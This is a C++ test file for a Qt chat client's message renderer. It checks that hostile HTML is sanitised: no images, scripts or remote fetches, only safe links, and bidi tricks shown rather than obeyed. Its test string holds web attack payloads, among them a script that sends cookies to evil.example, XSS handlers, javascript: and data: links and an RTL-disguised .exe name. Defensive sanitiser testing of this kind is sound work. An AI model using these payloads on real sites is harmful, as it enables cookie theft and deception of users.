// SPDX-License-Identifier: GPL-3.0-or-later
#include "ui/messagedocument.h"

#include <QApplication>
#include <QElapsedTimer>
#include <QTextBlock>
#include <QTextDocument>
#include <QTextFragment>

#include <catch2/catch.hpp>

using crosstalk::ui::MessageDocument;
using crosstalk::ui::renderMessageBody;

namespace {

struct Rendered
{
    QString text;
    QStringList anchors;
    int images = 0;
    int fragments = 0;
    bool hiddenOrTiny = false; ///< a fragment made invisible (tiny, transparent, same as background)
};

// Walks what the document actually holds after layout: text, link targets, image objects and
// character formats — not the sanitizer's string.
Rendered inspect(QTextDocument &doc)
{
    Rendered r;
    r.text = doc.toPlainText();
    for (QTextBlock block = doc.begin(); block.isValid(); block = block.next()) {
        for (auto it = block.begin(); !it.atEnd(); ++it) {
            const QTextFragment fragment = it.fragment();
            const QTextCharFormat format = fragment.charFormat();
            ++r.fragments;
            if (format.isImageFormat() || format.objectType() != QTextFormat::NoObject)
                ++r.images;
            if (format.isAnchor())
                r.anchors << format.anchorHref();
            if ((format.hasProperty(QTextFormat::FontPointSize) && format.fontPointSize() < 6) ||
                (format.hasProperty(QTextFormat::ForegroundBrush) && format.foreground().color().alpha() < 255) ||
                format.hasProperty(QTextFormat::BackgroundBrush))
                r.hiddenOrTiny = true;
        }
    }
    return r;
}

const QString kHostile = QStringLiteral(
    "Hello <img src=\"http://tracker.example/pixel.gif?u=alice\" width=1 height=1>"
    "<script>document.location='http://evil.example/?c='+document.cookie</script>"
    "<img src=x onerror=\"alert('xss')\" alt=\"cat\">"
    "<a href=\"javascript:alert(document.domain)\">click me</a> "
    "<a href=\"  JaVaScRiPt:alert(1)\">again</a> "
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a> "
    "<a href=\"https://example.org/safe?x=1&amp;y=2\">safe link</a> "
    "<span style=\"position:fixed;top:0;left:0;font-size:0;color:transparent;background:url(http://x/y)\">overlay</span>"
    "<font size=\"1\" color=\"#ffffff\">hidden white text</font>"
    "<style>body { display:none }</style>"
    "<link rel=\"stylesheet\" href=\"http://evil.example/s.css\">"
    "<iframe src=\"http://evil.example/\"></iframe>"
    "invoice\u202Egpj.exe and zero\u200Bwidth");

} // namespace

TEST_CASE("Rendering: hostile HTML becomes a document with no images, no scripts, only safe links")
{
    const std::unique_ptr<MessageDocument> doc = renderMessageBody(kHostile, QApplication::font());
    doc->setTextWidth(500);
    REQUIRE(doc->size().height() > 0); // laid out: anything the layout would fetch was asked for
    const Rendered r = inspect(*doc);
    INFO("rendered text: " << r.text.toStdString());
    INFO("document html: " << doc->toHtml().toStdString());

    CHECK(doc->resourceRequests() == 0); // nothing fetched, not even attempted
    CHECK(r.images == 0);
    CHECK(r.anchors == QStringList{QStringLiteral("https://example.org/safe?x=1&y=2")});
    CHECK_FALSE(r.hiddenOrTiny);
    CHECK_FALSE(r.text.contains(QLatin1String("document.cookie")));
    CHECK_FALSE(r.text.contains(QLatin1String("display:none")));
    CHECK_FALSE(r.text.contains(QLatin1String("alert")));
    // The link texts stay readable, as text.
    CHECK(r.text.contains(QLatin1String("click me")));
    CHECK(r.text.contains(QLatin1String("[image: cat]")));
    CHECK(r.text.contains(QLatin1String("hidden white text")));
    // The right-to-left override cannot turn "gpj.exe" into "exe.jpg": it is shown, not obeyed.
    CHECK(r.text.contains(QStringLiteral("invoice[U+202E]gpj.exe")));
    CHECK_FALSE(r.text.contains(QChar(0x202E)));
    CHECK(r.text.contains(QStringLiteral("zero[U+200B]width")));
}

TEST_CASE("Rendering: a 1 MB body is cut for display and lays out quickly")
{
    QString big;
    while (big.size() < 1024 * 1024)
        big += QStringLiteral("<b>spam</b> spam <img src=http://x/y.gif> spam https://example.org/ ");
    QElapsedTimer timer;
    timer.start();
    const std::unique_ptr<MessageDocument> doc = renderMessageBody(big, QApplication::font());
    doc->setTextWidth(500);
    const qreal height = doc->size().height();
    const qint64 ms = timer.elapsed();
    const Rendered r = inspect(*doc);
    CHECK(height > 0);
    CHECK(r.text.size() < 25000);
    CHECK(r.text.contains(QLatin1String("more characters not shown")));
    CHECK(r.images == 0);
    CHECK(doc->resourceRequests() == 0);
    CHECK(ms < 2000);
    WARN("1 MB body rendered (cut) in " << ms << " ms");
}
